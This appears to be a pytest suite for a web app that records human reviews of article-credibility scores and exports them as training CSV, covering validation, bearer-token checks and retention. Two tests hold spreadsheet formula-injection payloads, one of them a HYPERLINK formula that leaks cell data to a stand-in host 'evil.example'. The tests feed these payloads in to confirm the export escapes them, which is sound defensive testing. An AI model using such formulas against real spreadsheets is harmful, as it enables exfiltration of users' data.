import csv
import json

import pytest
from sqlalchemy import func, update

from credibility.errors import InvalidInputError
from credibility.webapp import store as st
from credibility.webapp.reviews import records as rv


@pytest.fixture()
def store(database_url):
    s = st.Store(database_url, keep_seconds=60)
    yield s
    s.close()


def scored(store, key, label, credibility, **inputs):
    score = {"credibility": credibility, "label": label, "model": "default@abc", "signals": []}
    return store.put(key, score, **inputs)


def test_a_review_is_stored_with_the_model_it_answers(store):
    scored(store, "a", "low", 0.1, article="Some text.", kind="text", title="T", url="")
    review = rv.add_review(store, "a", "credible", "  a wire story  ")
    assert {k: review[k] for k in ("result_id", "verdict", "note", "model")} == {
        "result_id": "a",
        "verdict": "credible",
        "note": "a wire story",
        "model": "default@abc",
    }
    assert isinstance(review["id"], int)


@pytest.mark.parametrize(
    "verdict, note, message",
    [
        ("true", "", "verdict must be one of credible, not_credible, not 'true'"),
        ("credible", "x" * 2001, "the note is 2,001 characters; at most 2,000"),
    ],
)
def test_bad_reviews_are_refused(store, verdict, note, message):
    scored(store, "a", "low", 0.1)
    with pytest.raises(InvalidInputError) as exc:
        rv.add_review(store, "a", verdict, note)
    assert str(exc.value) == message


def test_a_review_of_an_unknown_result_is_refused(store):
    with pytest.raises(rv.UnknownResult):
        rv.add_review(store, "missing", "credible")


def test_listing_puts_disagreements_first_then_newest(store):
    scored(store, "a", "low", 0.1, title="A")
    scored(store, "b", "credible", 0.9, title="B")
    scored(store, "c", "low", 0.2, title="C")
    rv.add_review(store, "a", "not_credible")  # agrees
    rv.add_review(store, "b", "not_credible")  # disagrees
    rv.add_review(store, "c", "credible")  # disagrees
    found = rv.listing(store)
    assert [(r["title"], r["verdict"], r["label"], r["disagrees"]) for r in found] == [
        ("C", "credible", "low", True),
        ("B", "not_credible", "credible", True),
        ("A", "not_credible", "low", False),
    ]


def test_export_writes_the_latest_review_of_each_result_as_training_rows(store, tmp_path):
    scored(
        store, "a", "low", 0.1, article="Plain text.", kind="text", title="A", url="https://a.org/1"
    )
    scored(store, "b", "credible", 0.9, article="<p>Markup</p>", kind="html", title="", url="")
    rv.add_review(store, "a", "not_credible", "first thought")
    rv.add_review(store, "b", "not_credible")
    rv.add_review(store, "a", "credible", "on second reading")
    path = tmp_path / "labelled.csv"
    assert rv.export_csv(store, path) == 2
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows == [
        {"text": "", "html": "<p>Markup</p>", "title": "", "url": "", "label": "not_credible",
         "model": "default@abc", "credibility": "0.9", "note": ""},
        {"text": "Plain text.", "html": "", "title": "A", "url": "https://a.org/1",
         "label": "credible", "model": "default@abc", "credibility": "0.1",
         "note": "on second reading"},
    ]  # fmt: skip


def test_reviewed_results_outlive_the_retention_time(store):
    scored(store, "kept", "low", 0.1)
    scored(store, "gone", "low", 0.1)
    rv.add_review(store, "kept", "credible")
    with store.engine.begin() as conn:
        conn.execute(update(st.results).values(created=0.0))
    assert store.purge() == 1
    assert store.get("kept") is not None and store.get("gone") is None
    assert json.dumps(rv.export_rows(store))  # still exportable


def test_export_is_what_credibility_train_reads(store, tmp_path):
    from credibility.training.data import Columns, load
    from tests.conftest import read_fixture

    scored(store, "a", "low", 0.1, article=read_fixture("news-story.txt"), kind="text")
    scored(store, "b", "credible", 0.9, article=read_fixture("farm-page.txt"), kind="text")
    rv.add_review(store, "a", "credible")
    rv.add_review(store, "b", "not_credible")
    path = tmp_path / "labelled.csv"
    rv.export_csv(store, path)
    prepared = load([str(path)], Columns(), min_per_class=1)
    assert prepared.frame["y"].tolist() == [1, 0]
    assert prepared.label_spellings == {"credible": 1, "not_credible": 1}


@pytest.mark.parametrize(
    "required, authorization, form_token, allowed",
    [
        (None, None, None, True),
        ("s3cret", None, None, False),
        ("s3cret", "Bearer s3cret", None, True),
        ("s3cret", "Bearer wrong", "s3cret", False),
        ("s3cret", None, "s3cret", True),
        ("s3cret", None, "wrong", False),
        # Only the Bearer scheme carries the token (issue 20: a bare token was accepted).
        ("s3cret", "s3cret", None, False),
        ("s3cret", "Basic s3cret", None, False),
        ("s3cret", "bearer  s3cret ", None, True),
        ("s3cret", "Bearers3cret", None, False),
        ("s3cret", "s3cret", "s3cret", True),  # the page's form field still counts
    ],
)
def test_may_write(required, authorization, form_token, allowed):
    assert rv.may_write(required, authorization, form_token) is allowed


@pytest.fixture()
def web(tmp_path):
    from credibility.webapp import create_app

    app = create_app({"TESTING": True, "WTF_CSRF_ENABLED": False, "STATE_DIR": str(tmp_path)})
    yield app.test_client()
    app.extensions["credibility_store"].close()


def scored_on_the_page(client, fixture: str) -> str:
    import re

    from tests.conftest import read_fixture

    page = client.post("/", data={"article": read_fixture(fixture), "kind": "auto"})
    return re.search(r'action="(/result/[0-9a-f]{32}/review)"', page.get_data(as_text=True))[1]


def test_a_review_from_the_result_page_is_listed_and_exported(web):
    from tests.conftest import read_fixture

    review_url = scored_on_the_page(web, "news-story.txt")
    response = web.post(review_url, data={"verdict": "not_credible", "note": "made up"})
    assert (response.status_code, response.headers["Location"]) == (303, "/reviews")
    page = web.get("/reviews").get_data(as_text=True)
    assert '<tr id="review-1" class="disagrees">' in page
    assert '<strong>not credible</strong> <span class="flag">(disagrees)</span>' in page
    download = web.get("/reviews.csv")
    assert download.headers["Content-Disposition"] == "attachment; filename=reviews.csv"
    (row,) = csv.DictReader(download.get_data(as_text=True).splitlines(keepends=True))
    assert (row["label"], row["note"], row["html"]) == ("not_credible", "made up", "")
    assert row["text"].startswith(read_fixture("news-story.txt")[:40])
    assert row["model"].startswith("default@") and 0 <= float(row["credibility"]) <= 1


def test_review_errors(web, monkeypatch):
    review_url = scored_on_the_page(web, "news-story.txt")
    bad = web.post(review_url, data={"verdict": "maybe"})
    assert bad.status_code == 400
    assert "verdict must be one of credible, not_credible, not &#39;maybe&#39;" in bad.get_data(
        as_text=True
    )
    missing = web.post("/result/" + "0" * 32 + "/review", data={"verdict": "credible"})
    assert missing.status_code == 404
    monkeypatch.setenv("CREDIBILITY_REVIEW_TOKEN", "s3cret")
    assert web.post(review_url, data={"verdict": "credible"}).status_code == 403
    assert web.post(review_url, data={"verdict": "credible", "token": "s3cret"}).status_code == 303
    assert web.get("/reviews").get_data(as_text=True).count('<tr id="review-') == 1


def test_cli_exports_the_reviews_of_a_state_folder(tmp_path, capsys):
    from credibility.cli import main

    s = st.Store(st.database_url(tmp_path), keep_seconds=60)
    scored(s, "a", "low", 0.1, article="Some text.", kind="text", title="A", url="")
    rv.add_review(s, "a", "credible")
    s.close()
    out = tmp_path / "labelled.csv"
    assert main(["reviews", "export", "-o", str(out), "--state-dir", str(tmp_path)]) == 0
    assert capsys.readouterr().out == (
        f"wrote 1 reviewed articles to {out} (1 credible, 0 not credible)\n"
        f"adapt the model they answer: credibility train --from default {out} "
        "-o models/default-reviewed\n"
    )
    assert out.read_text().splitlines()[1] == "Some text.,,A,,credible,default@abc,0.1,"


def test_counts_per_verdict_take_each_articles_latest_review(store):
    for key in "abc":
        scored(store, key, "low", 0.1, article=f"Text {key}.", kind="text", title="", url="")
    rv.add_review(store, "a", "credible")
    rv.add_review(store, "a", "not_credible")  # the reviewer changed their mind
    rv.add_review(store, "b", "not_credible")
    assert rv.verdict_counts(store) == {"credible": 0, "not_credible": 2}
    assert rv.answered_model(store) == "default@abc"


@pytest.mark.parametrize(
    "model, data, command",
    [
        ("default@abc", "reviews.csv", "--from default reviews.csv -o models/default-reviewed"),
        (
            "models/my team",
            "a b.csv",
            "--from 'models/my team' 'a b.csv' -o 'models/my team-reviewed'",
        ),
    ],
)
def test_adapt_command(model, data, command):
    assert rv.adapt_command(model, data) == f"credibility train {command}"


def test_the_reviews_screen_counts_verdicts_and_says_how_to_adapt_the_running_model(web):
    review_url = scored_on_the_page(web, "news-story.txt")
    assert web.post(review_url, data={"verdict": "credible"}).status_code == 303
    page = web.get("/reviews").get_data(as_text=True)
    assert "Reviewed: 1 credible, 0 not\n  credible (each article's latest review)" in page
    assert (
        '<code class="adapt">credibility train --from default reviews.csv '
        "-o models/default-reviewed</code>"
    ) in page


def test_the_api_scores_fetches_and_reviews_a_result(web, monkeypatch):
    from tests.conftest import read_fixture

    scored = web.post("/api/score", json={"text": read_fixture("news-story.txt")})
    key = scored.headers["X-Result-Id"]
    assert web.get(f"/api/results/{key}").get_json() == scored.get_json()
    review = web.post(f"/api/results/{key}/review", json={"verdict": "not_credible", "note": "x"})
    body = review.get_json()
    assert review.status_code == 201
    assert {k: body[k] for k in ("id", "result_id", "verdict", "note")} == {
        "id": 1,
        "result_id": key,
        "verdict": "not_credible",
        "note": "x",
    }
    assert body["model"] == scored.get_json()["model"]
    assert rv.listing(web.application.extensions["credibility_store"])[0]["result_id"] == key


@pytest.mark.parametrize(
    "body, status, message",
    [
        ({"verdict": "maybe"}, 400, '"verdict" must be one of credible, not_credible'),
        ({"verdict": "credible", "note": 5}, 400, '"note" must be a string'),
        ({"verdict": "credible", "extra": 1}, 400, "unknown fields: extra"),
        (
            {"verdict": "credible", "note": "n" * 2001},
            400,
            "note is 2,001 characters, over the limit of 2,000",
        ),
        ([1], 400, "the body must be a JSON object"),
    ],
)
def test_api_review_errors(web, body, status, message):
    from tests.conftest import read_fixture

    key = web.post("/api/score", json={"text": read_fixture("news-story.txt")}).headers[
        "X-Result-Id"
    ]
    response = web.post(f"/api/results/{key}/review", json=body)
    assert (response.status_code, response.get_json()) == (status, {"ok": False, "error": message})


def test_api_review_of_a_missing_result_and_the_token(web, monkeypatch):
    missing = web.post("/api/results/" + "0" * 32 + "/review", json={"verdict": "credible"})
    assert (missing.status_code, missing.get_json()["error"]) == (
        404,
        "no such result (never scored here, or expired)",
    )
    assert web.get("/api/results/" + "0" * 32).status_code == 404
    monkeypatch.setenv("CREDIBILITY_REVIEW_TOKEN", "s3cret")
    refused = web.post("/api/results/" + "0" * 32 + "/review", json={"verdict": "credible"})
    assert (refused.status_code, refused.headers["WWW-Authenticate"]) == (401, "Bearer")
    bare = web.post(
        "/api/results/" + "0" * 32 + "/review",
        json={"verdict": "credible"},
        headers={"Authorization": "s3cret"},
    )
    assert (bare.status_code, bare.get_json()) == (
        401,
        {"ok": False, "error": "reviews need the review token: Authorization: Bearer TOKEN"},
    )
    allowed = web.post(
        "/api/results/" + "0" * 32 + "/review",
        json={"verdict": "credible"},
        headers={"Authorization": "Bearer s3cret"},
    )
    assert allowed.status_code == 404  # past the token, to the missing result
    not_json = web.post(
        "/api/results/" + "0" * 32 + "/review", data="x", headers={"Authorization": "Bearer s3cret"}
    )
    assert not_json.status_code == 415


def test_a_note_with_a_nul_is_stored(store):
    scored(store, "a", "low", 0.1)
    assert rv.add_review(store, "a", "credible", "see\x00this")["note"] == "see\ufffdthis"


# What a spreadsheet would run, and the ways around a first-character check (issue 20, 3).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+1+1",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_the_export_escapes_every_cell_a_reviewer_or_scorer_wrote(store, tmp_path):
    for i, formula in enumerate(FORMULAS):
        scored(store, f"r{i}", "low", 0.1, article=formula, kind="text", title=formula, url=formula)
        rv.add_review(store, f"r{i}", "credible", "x" + formula)  # the note is stripped first
    with store.engine.begin() as conn:  # a note as an older version stored it, unstripped
        conn.execute(update(st.reviews).values(note=func.substr(st.reviews.c.note, 2)))
    path = tmp_path / "labelled.csv"
    rv.export_csv(store, path)
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    escaped = ["'" + formula for formula in FORMULAS]
    for name in ("text", "title", "url", "note"):
        assert [row[name] for row in rows] == escaped, name


def test_the_reviews_download_escapes_formulas(web):
    store = web.application.extensions["credibility_store"]
    scored(store, "a" * 32, "low", 0.1, article="Text.", kind="html", title="+cmd", url="@x")
    rv.add_review(store, "a" * 32, "credible", '=HYPERLINK("http://evil.example","Click")')
    (row,) = csv.DictReader(web.get("/reviews.csv").get_data(as_text=True).splitlines(True))
    assert (row["html"], row["title"], row["url"], row["note"]) == (
        "Text.",
        "'+cmd",
        "'@x",
        '\'=HYPERLINK("http://evil.example","Click")',
    )


def test_result_ids_are_random_and_the_export_gives_each_article_once(web):
    """Ids were the inputs' digest: whoever had an article's text could read its result and
    review it (issue 20, finding 8)."""
    import hashlib

    from tests.conftest import read_fixture

    text = read_fixture("news-story.txt")
    first, second = (web.post("/api/score", json={"text": text}) for _ in range(2))
    keys = [r.headers["X-Result-Id"] for r in (first, second)]
    assert keys[0] != keys[1] and all(len(k) == 32 and int(k, 16) >= 0 for k in keys)
    model = first.get_json()["model"]
    digest = hashlib.sha256(json.dumps([model, text, "auto", "", ""]).encode()).hexdigest()
    assert digest[:32] not in keys and web.get(f"/api/results/{digest[:32]}").status_code == 404
    for key, verdict in zip(keys, ("credible", "not_credible"), strict=True):
        assert web.post(f"/api/results/{key}/review", json={"verdict": verdict}).status_code == 201
    store = web.application.extensions["credibility_store"]
    assert [(r["text"][:20], r["label"]) for r in rv.export_rows(store)] == [
        (text[:20], "not_credible")  # one article, its latest review
    ]


def test_scores_past_the_result_budget_evict_the_oldest(tmp_path):
    from credibility.webapp import create_app
    from tests.conftest import read_fixture

    app = create_app({"TESTING": True, "STATE_DIR": str(tmp_path)})
    client, store = app.test_client(), app.extensions["credibility_store"]
    text = read_fixture("news-story.txt")
    keys = [client.post("/api/score", json={"text": text}).headers["X-Result-Id"]]
    store.budget_bytes = 2 * store.used()  # room for two of these results
    keys += [client.post("/api/score", json={"text": text}).headers["X-Result-Id"] for _ in "1234"]
    found = [client.get(f"/api/results/{key}").status_code for key in keys]
    assert found == [404, 404, 404, 200, 200]
    assert store.used() == store.budget_bytes
    app.extensions["credibility_store"].close()


def test_the_result_budget_is_configurable():
    from credibility.webapp.policy import DEFAULTS, from_environment

    assert DEFAULTS["MAX_RESULT_BYTES"] == 500_000_000
    assert from_environment({"CREDIBILITY_MAX_RESULT_BYTES": "1_000"}) == {
        "MAX_RESULT_BYTES": 1_000
    }


CLOSED = (
    "reviews are closed: this server listens beyond loopback and no review token is set up "
    "(CREDIBILITY_REVIEW_TOKEN)"
)


def test_reviews_need_a_token_beyond_loopback(tmp_path, monkeypatch):
    from credibility.webapp import create_app

    monkeypatch.delenv("CREDIBILITY_REVIEW_TOKEN", raising=False)
    app = create_app(
        {
            "TESTING": True,
            "WTF_CSRF_ENABLED": False,
            "STATE_DIR": str(tmp_path),
            "REVIEWS_NEED_TOKEN": True,
        }
    )
    client = app.test_client()
    key = client.post("/api/score", json={"text": "Officials said so."}).headers["X-Result-Id"]
    refused = client.post(f"/api/results/{key}/review", json={"verdict": "credible"})
    assert (refused.status_code, refused.get_json()) == (403, {"ok": False, "error": CLOSED})
    page = client.post("/", data={"article": "Officials said so.", "kind": "auto"})
    html = page.get_data(as_text=True)
    assert "Reviews are closed on this server" in html and "review-form" not in html
    form = client.post(f"/result/{key}/review", data={"verdict": "credible"})
    assert form.status_code == 403 and "Reviews are closed: this server" in form.get_data(True)
    monkeypatch.setenv("CREDIBILITY_REVIEW_TOKEN", "s3cret")
    allowed = client.post(
        f"/api/results/{key}/review",
        json={"verdict": "credible"},
        headers={"Authorization": "Bearer s3cret"},
    )
    assert allowed.status_code == 201
    app.extensions["credibility_store"].close()


@pytest.mark.parametrize(
    "host, need",
    [
        ("127.0.0.1", False),
        ("127.0.0.2", False),
        ("localhost", False),
        ("::1", False),
        ("0.0.0.0", True),
        ("::", True),
        ("192.168.1.10", True),
        ("example.org", True),
    ],
)
def test_serve_closes_reviews_beyond_loopback_and_says_so(
    tmp_path, monkeypatch, capsys, host, need
):
    from credibility.webapp import serve

    monkeypatch.delenv("CREDIBILITY_REVIEW_TOKEN", raising=False)
    seen = {}
    monkeypatch.setattr(serve, "run_gunicorn", lambda app, *rest: seen.update(app.config) or 0)
    monkeypatch.setattr(serve, "run_waitress", lambda app, *rest: seen.update(app.config) or 0)
    assert serve.run(host, 8000, {"STATE_DIR": str(tmp_path)}, 1, 1) == 0
    assert seen["REVIEWS_NEED_TOKEN"] is need
    said = capsys.readouterr().err
    assert (f"credibility: {CLOSED}; set it to take reviews\n" in said) is need
